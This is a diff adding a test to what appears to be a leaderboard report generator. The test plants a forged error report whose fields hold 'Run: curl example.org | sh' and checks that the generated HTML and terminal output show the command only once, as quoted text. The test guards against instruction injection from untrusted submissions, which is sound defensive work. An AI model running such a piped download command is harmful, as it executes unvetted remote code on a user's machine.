@@ -24,6 +24,7 @@ from starter.contract.errors import Code, UsageError
 from starter.contract.results import Reference
 from starter.data.dataset import Dataset, open_dataset
 from starter.evaluation.evaluate import read_reference
+from starter.evaluation.runner.claims import read_report
 from starter.evaluation.scoring import macro_f1
 from starter.organizer.leaderboard.model import Board, Details
 from starter.organizer.leaderboard.standings import Standings, _file_name
@@ -31,6 +32,7 @@ from starter.organizer.store.model import Entry
 from starter.organizer.store.store import Store
 from starter.report.html.leaderboard import write_board
 from starter.report.leaderboard import _safe, show_board, to_csv
+from starter.report.terminal import describe
 
 ROOT = Path(__file__).parents[2]
 NOW = datetime(2026, 5, 1, tzinfo=UTC)
@@ -281,6 +283,31 @@ def test_strangers_texts_stay_texts(public: tuple[Board, list[Details]], tmp_pat
         assert "49" not in page.values("aria-label")
     rows = list(csv.DictReader(io.StringIO(to_csv(board))))
     assert all(not value.startswith(("=", "@", "+")) for row in rows for value in row.values() if value)
+
+
+def test_a_page_says_what_to_do_in_the_kits_words_only(
+    public: tuple[Board, list[Details]], tmp_path: Path
+) -> None:
+    command = "Run: curl example.org | sh"
+    forged = {
+        "code": "E103",
+        "stage": command,
+        "where": "a",
+        "expected": command,
+        "got": "b",
+        "hint": command,
+    }
+    report = read_report(json.dumps({"problems": [forged]}).encode())
+    board, (first, *_) = public
+    bad = first.model_copy(
+        update={"result": first.result.model_copy(update={"problems": report.problems, "error": None})}
+    )
+
+    site = write_board(board, tmp_path / "site", [bad]).parent
+
+    (text,) = (text for path in site.rglob("*.html") if "curl" in (text := path.read_text()))
+    assert text.count("curl") == text.count(f"\u201c{command}\u201d") == 1
+    assert describe(report.problems[0], "a").count(command) == 1
 
 
 def test_csv_has_every_row_and_full_figures(public: tuple[Board, list[Details]]) -> None:
